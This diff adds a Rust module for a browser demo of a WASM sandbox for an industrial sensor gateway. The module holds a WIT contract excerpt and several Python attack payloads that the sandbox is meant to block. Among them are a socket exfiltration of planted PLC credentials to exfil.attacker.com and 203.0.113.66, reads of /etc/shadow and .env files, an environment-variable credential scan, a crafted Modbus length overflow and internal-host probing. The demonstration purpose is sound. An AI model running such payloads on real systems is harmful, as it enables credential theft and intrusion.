@@ -0,0 +1,407 @@
+// what: the demo's python attack payloads and the wit contract excerpt its info modal shows
+// why: split out of the dashboard bundle - trunk builds this as its own wasm module, imported when the demo tab first opens
+// relations: loaded by window.loadAttackCode in dashboard/index.html through dashboard/src/tabs/demo/payloads.rs;
+//            the payloads plant the data of dashboard attacks.rs (LENGTH_OVERFLOW_ADU, GATEWAY_ENV, LATERAL_TARGETS)
+
+#[cfg(feature = "bindgen")]
+use wasm_bindgen::prelude::*;
+
+// ============================================================================
+// wit contract code for modal display
+// ============================================================================
+
+pub const WIT_CODE_EXCERPT: &str = r#"// wit/attacks.wit - WASI 0.2 Component Model
+// ============================================================================
+// BROWSER DEMO vs RASPBERRY PI DEPLOYMENT
+// ============================================================================
+// 
+// this demo runs in the browser using wasm-bindgen + pyodide.
+// the wit contract shown here is the SAME format used by wasmtime on raspberry pi.
+// 
+// KEY DIFFERENCE:
+// - browser: we SIMULATE trap responses (js returns error)
+// - raspberry pi: wasmtime ENFORCES at syscall level (no import = instant trap)
+//
+// on raspberry pi, each world runs under the wasmtime command shown below this
+// contract, generated from the active wit/policy.toml - nothing it does not list
+// is granted, so any call to open-socket() or read-file() traps IMMEDIATELY
+//
+// ============================================================================
+
+package guardian-one:attacks@0.1.0;
+
+// shared data types used by workers and supervisor
+interface common-types {
+    // telemetry packet returned by each worker every tick
+    record telemetry-packet { timestamp: u64, value: f64, status: u8 }
+}
+
+// ============================================================================
+// ATTACK SURFACE - capabilities attacker wants but SHOULD NOT HAVE
+// ============================================================================
+// on raspberry pi: these imports are simply NOT PROVIDED by the host
+// any call immediately traps: "import not found: attack-surface/malloc-large"
+//
+// in browser demo: we simulate this by returning error strings
+interface attack-surface {
+    // memory: attacker tries to allocate huge buffer for heap spray
+    // raspberry pi: traps immediately, host never exports this
+    malloc-large: func(size: u64) -> result<u64, string>;
+    
+    // network: attacker tries to exfiltrate data
+    // raspberry pi: traps immediately, wasi:sockets not granted
+    open-socket: func(addr: string) -> result<u32, string>;
+    
+    // filesystem: attacker tries path traversal
+    // raspberry pi: traps immediately, wasi:filesystem not granted (or scoped to /dev/i2c)
+    read-file: func(path: string) -> result<list<u8>, string>;
+    
+    // environment: attacker scans env vars for credentials
+    // raspberry pi: wasi:cli/environment only returns what --env passed
+    get-environment: func() -> list<tuple<string, string>>;
+}
+
+// ============================================================================
+// LEGITIMATE CAPABILITIES - what the sensor worker ACTUALLY needs
+// ============================================================================
+// on raspberry pi: wasmtime grants only these, via the sensor-node flags under this contract
+interface sensor-capabilities {
+    // reads raw value from hardware register (i2c bus on pi)
+    read-hardware-register: func(reg-id: u32) -> f64;
+    
+    // debug logging (goes to stderr on pi, console on browser)
+    log-debug: func(msg: string);
+}
+
+// ============================================================================
+// WORKER WORLD - instantiated 3x for 2oo3 tmr voting
+// ============================================================================
+// the worker has NO knowledge of the tmr/voting logic
+// it simply processes one tick and returns a telemetry packet
+// if it tries to call attack-surface functions, it traps
+world sensor-node {
+    use common-types.{telemetry-packet};
+
+    import sensor-capabilities;  // granted by host
+    import attack-surface;       // NOT granted - any call traps
+    
+    // worker exports this - supervisor calls it 3x and compares outputs
+    export process-tick: func() -> telemetry-packet;
+}
+
+// ============================================================================
+// SUPERVISOR WORLD - runs on host, manages worker lifecycle
+// ============================================================================
+// this runs OUTSIDE the wasm sandbox (native rust on raspberry pi)
+// it instantiates 3 workers, calls process-tick on each, and votes
+world system-supervisor {
+    import tmr-logic;
+}
+
+interface tmr-logic {
+    // 2oo3 voting: if 2+ outputs match, we have consensus
+    // if one worker traps, we use the other 2's matching output
+    consensus-2oo3: func(a: ..., b: ..., c: ...) -> result<packet, string>;
+    
+    // hot-swap: if worker traps, rebuild it in ~0.03ms
+    trigger-hot-swap: func(node-index: u8);
+}
+
+"#;
+
+// ============================================================================
+// python attack code (executed via pyodide for real exceptions)
+// ============================================================================
+
+pub const ATTACK_BUFFER_OVERFLOW: &str = r#"
+import time
+start = time.perf_counter()
+result = None
+
+try:
+    print("[ATTACK] Attempting heap spray (256MB)...")
+    try:
+        massive = bytearray(256 * 1024 * 1024)
+    except MemoryError:
+        print("[INFO] MemoryError on heap spray")
+    
+    print("[ATTACK] Attempting stack buffer overflow...")
+    fixed = bytearray(64)
+    overflow = b"A" * 128
+    
+    for i, b in enumerate(overflow):
+        fixed[i] = b  # Will raise IndexError at i=64
+    
+    result = "VULNERABLE: Overflow succeeded!"
+    
+except MemoryError as e:
+    elapsed = (time.perf_counter() - start) * 1000
+    result = f"CRASHED|MemoryError|Unable to allocate 256MB|{elapsed:.1f}ms"
+    
+except IndexError as e:
+    elapsed = (time.perf_counter() - start) * 1000
+    result = f"CRASHED|IndexError|buffer[64] out of bounds|{elapsed:.1f}ms"
+    
+except Exception as e:
+    result = f"CRASHED|{type(e).__name__}|{str(e)}"
+
+result
+"#;
+
+pub const ATTACK_DATA_EXFIL: &str = r#"
+import time
+start = time.perf_counter()
+result = None
+
+sensitive = {
+    "plc_creds": {"user": "engineer", "pass": "S!emens#2026"},
+    "modbus_gw": "192.168.40.1:502",
+    "api_key": "sk-historian-PROD-8x7k"
+}
+print(f"[ATTACK] Collected {len(sensitive)} sensitive objects")
+
+try:
+    import socket
+    print("[ATTACK] Attempting DNS: exfil.attacker.com")
+    
+    try:
+        ip = socket.gethostbyname("exfil.attacker.com")
+        result = f"VULNERABLE|DNS resolved|{ip}"
+    except socket.gaierror as e:
+        print(f"[INFO] DNS blocked: {e}")
+    
+    print("[ATTACK] Attempting socket to 203.0.113.66:443")
+    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+    sock.settimeout(1.0)
+    sock.connect(("203.0.113.66", 443))
+    sock.send(str(sensitive).encode())
+    result = "VULNERABLE|socket.connect|Data exfiltrated!"
+    
+except socket.gaierror as e:
+    elapsed = (time.perf_counter() - start) * 1000
+    result = f"BLOCKED|socket.gaierror|DNS resolution failed|{elapsed:.1f}ms"
+    
+except (socket.error, OSError) as e:
+    elapsed = (time.perf_counter() - start) * 1000
+    result = f"BLOCKED|socket.error|Network access denied|{elapsed:.1f}ms"
+    
+except Exception as e:
+    result = f"ERROR|{type(e).__name__}|{str(e)}"
+
+result
+"#;
+
+pub const ATTACK_PATH_TRAVERSAL: &str = r#"
+import time
+import os
+start = time.perf_counter()
+result = None
+
+targets = [
+    "/etc/passwd", "/etc/shadow", "../../../etc/passwd",
+    "/proc/self/environ", "/app/.env", "../../.git/config"
+]
+print(f"[ATTACK] Probing {len(targets)} paths...")
+
+readable = []  # Files successfully read
+exists_only = []  # Files exist but couldn't read
+blocked = []  # Files blocked by sandbox
+
+for path in targets:
+    try:
+        print(f"[PROBE] {path}")
+        if os.path.exists(path):
+            try:
+                with open(path, 'r') as f:
+                    content = f.read(64)
+                readable.append(path)
+                print(f"[EXFIL] Read from {path}")
+            except PermissionError:
+                exists_only.append(path)
+        else:
+            blocked.append(path)
+    except OSError as e:
+        blocked.append(path)
+
+elapsed = (time.perf_counter() - start) * 1000
+
+if readable:
+    result = f"VULNERABLE|FileRead|Read {len(readable)} files!|{elapsed:.1f}ms"
+elif exists_only:
+    result = f"PARTIAL|PermissionError|{len(exists_only)} paths exist but unreadable|{elapsed:.1f}ms"
+else:
+    result = f"BLOCKED|OSError|All {len(targets)} paths blocked by sandbox|{elapsed:.1f}ms"
+
+result
+"#;
+
+pub const ATTACK_STACK_EXHAUSTION: &str = r#"
+import sys
+import time
+start = time.perf_counter()
+result = None
+depth = 0
+
+def recurse(n):
+    global depth
+    depth = n
+    return recurse(n + 1) + 1
+
+try:
+    print(f"[ATTACK] Unbounded recursion (limit {sys.getrecursionlimit()})...")
+    recurse(1)
+    result = "VULNERABLE|NoLimit|Recursion returned"
+except RecursionError as e:
+    elapsed = (time.perf_counter() - start) * 1000
+    result = f"CRASHED|RecursionError|{e} at depth {depth}|{elapsed:.1f}ms"
+except Exception as e:
+    result = f"CRASHED|{type(e).__name__}|{str(e)}"
+
+result
+"#;
+
+pub const ATTACK_LENGTH_OVERFLOW: &str = r#"
+import struct
+import time
+start = time.perf_counter()
+result = None
+length = pdu_len = 0
+
+adu = bytes.fromhex("0001000000000110000a000102003c")
+
+try:
+    print("[ATTACK] Crafted MBAP length field (0)...")
+    tid, proto, length, unit = struct.unpack(">HHHB", adu[:7])
+    # port of a c parser: pdu_len is a uint32_t, so length - 1 wraps
+    pdu_len = (length - 1) & 0xFFFFFFFF
+    registers = [0] * (pdu_len // 2)
+    result = f"VULNERABLE|NoError|Allocated {len(registers)} registers"
+except MemoryError:
+    elapsed = (time.perf_counter() - start) * 1000
+    result = f"CRASHED|MemoryError|length={length} wrapped to {pdu_len} bytes|{elapsed:.1f}ms"
+except Exception as e:
+    result = f"CRASHED|{type(e).__name__}|{str(e)}"
+
+result
+"#;
+
+pub const ATTACK_ENV_THEFT: &str = r#"
+import os
+import time
+
+# gateway process environment (fake secrets planted for the demo)
+os.environ.update({
+    "SENSOR_TYPE": "bme280",
+    "POLL_INTERVAL_MS": "1000",
+    "AWS_SECRET_ACCESS_KEY": "FAKE-wJalrXUtnFEMI-demo",
+    "MQTT_PASSWORD": "FAKE-hunter2-demo",
+    "HISTORIAN_API_TOKEN": "FAKE-tok-0000-demo",
+})
+
+start = time.perf_counter()
+result = None
+
+try:
+    print("[ATTACK] Scanning os.environ for credentials...")
+    markers = ("SECRET", "PASSWORD", "TOKEN", "KEY")
+    found = sorted(k for k in os.environ if any(m in k for m in markers))
+    elapsed = (time.perf_counter() - start) * 1000
+    if found:
+        result = f"LEAKED|AmbientAuthority|{len(found)} secrets readable: {', '.join(found)}|{elapsed:.1f}ms"
+    else:
+        result = f"BLOCKED|NoSecrets|Environment holds no credentials|{elapsed:.1f}ms"
+except Exception as e:
+    result = f"CRASHED|{type(e).__name__}|{str(e)}"
+
+result
+"#;
+
+pub const ATTACK_LATERAL_MOVEMENT: &str = r#"
+import asyncio
+import time
+from js import AbortController, Object, WebSocket, fetch, setTimeout
+from pyodide.ffi import create_once_callable, create_proxy, to_js
+
+TIMEOUT_S = 1.5
+targets = [
+    ("fetch", "http://127.0.0.1:502/"),
+    ("fetch", "http://192.168.0.10:80/"),
+    ("websocket", "ws://10.255.255.1:502/"),
+]
+
+async def try_fetch(url):
+    ctrl = AbortController.new()
+    setTimeout(create_once_callable(lambda: ctrl.abort()), int(TIMEOUT_S * 1000))
+    opts = to_js({"signal": ctrl.signal, "mode": "no-cors"}, dict_converter=Object.fromEntries)
+    try:
+        await fetch(url, opts)
+        return "reached"
+    except Exception as e:
+        return "timeout" if "Abort" in str(e) else "blocked"
+
+async def try_websocket(url):
+    try:
+        ws = WebSocket.new(url)
+    except Exception:
+        return "blocked"
+    fut = asyncio.get_event_loop().create_future()
+    def settle(outcome):
+        if not fut.done():
+            fut.set_result(outcome)
+    on_open = create_proxy(lambda e: settle("reached"))
+    on_error = create_proxy(lambda e: settle("blocked"))
+    ws.onopen, ws.onerror = on_open, on_error
+    try:
+        return await asyncio.wait_for(fut, TIMEOUT_S)
+    except asyncio.TimeoutError:
+        return "timeout"
+    finally:
+        ws.close()
+        on_open.destroy()
+        on_error.destroy()
+
+start = time.perf_counter()
+result = None
+
+try:
+    print("[ATTACK] Probing internal hosts from the gateway...")
+    outcomes = []
+    for kind, url in targets:
+        t0 = time.perf_counter()
+        outcome = await (try_fetch(url) if kind == "fetch" else try_websocket(url))
+        host = url.split("//")[1].rstrip("/")
+        outcomes.append(f"{kind} {host} {outcome} {(time.perf_counter() - t0) * 1000:.0f}ms")
+    elapsed = (time.perf_counter() - start) * 1000
+    status = "REACHED" if any(" reached " in o for o in outcomes) else "BROWSER-BLOCKED"
+    result = f"{status}|LateralMovement|{'; '.join(outcomes)}|{elapsed:.1f}ms"
+except Exception as e:
+    result = f"CRASHED|{type(e).__name__}|{str(e)}"
+
+result
+"#;
+
+/// get the python attack code for the given attack type
+pub fn get_attack_code(attack: &str) -> &'static str {
+    match attack {
+        "bufferOverflow" => ATTACK_BUFFER_OVERFLOW,
+        "dataExfil" => ATTACK_DATA_EXFIL,
+        "pathTraversal" => ATTACK_PATH_TRAVERSAL,
+        "stackExhaustion" => ATTACK_STACK_EXHAUSTION,
+        "lengthOverflow" => ATTACK_LENGTH_OVERFLOW,
+        "envTheft" => ATTACK_ENV_THEFT,
+        "lateralMovement" => ATTACK_LATERAL_MOVEMENT,
+        _ => "{'status': 'unknown', 'error': 'InvalidAttack', 'msg': 'Unknown attack type'}"
+    }
+}
+
+/// get_attack_code for javascript (the loader's attackCode)
+#[cfg_attr(feature = "bindgen", wasm_bindgen(js_name = attackCode))]
+pub fn attack_code(attack: &str) -> String {
+    get_attack_code(attack).to_string()
+}
+
+/// WIT_CODE_EXCERPT for javascript
+#[cfg_attr(feature = "bindgen", wasm_bindgen(js_name = witExcerpt))]
+pub fn wit_excerpt() -> String {
+    WIT_CODE_EXCERPT.to_string()
+}